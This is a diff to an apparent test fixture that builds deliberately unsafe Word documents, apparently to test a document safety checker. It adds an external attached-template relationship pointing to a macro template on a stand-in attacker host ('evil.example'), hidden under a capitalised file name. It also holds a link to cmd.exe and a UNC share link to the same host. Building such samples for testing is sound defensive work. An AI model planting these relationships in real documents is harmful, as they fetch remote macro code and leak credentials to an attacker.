@@ -57,6 +57,15 @@ const ACTIVE: Record<string, () => Buffer> = {
 const UNSAFE: Record<string, () => Buffer> = {
   'link-to-a-file.docx': () =>
     related('hyperlink', 'file:///C:/Windows/System32/cmd.exe', 'TargetMode="External"'),
+  'template-under-capitals.docx': () =>
+    docxFrom(body, [
+      {
+        name: 'word/_rels/settings.xml.RELS',
+        content: relationsXml(
+          `<Relationship Id="r1" Type="${RELATIONS}/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"/>`,
+        ),
+      },
+    ]),
   'link-field-to-a-share.docx': () =>
     withFields(field(instruction('HYPERLINK "\\\\\\\\evil.example\\\\share"'))),
   'second-document.docx': () =>
